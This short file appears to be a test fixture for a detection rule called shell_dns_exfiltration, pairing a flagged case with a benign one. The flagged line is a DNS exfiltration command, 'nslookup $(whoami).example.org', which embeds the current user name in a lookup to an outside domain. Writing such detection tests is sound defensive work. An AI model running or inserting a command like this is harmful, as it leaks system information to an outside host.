# ruleid: shell_dns_exfiltration
nslookup $(whoami).example.org
# ok: shell_dns_exfiltration
nslookup example.org
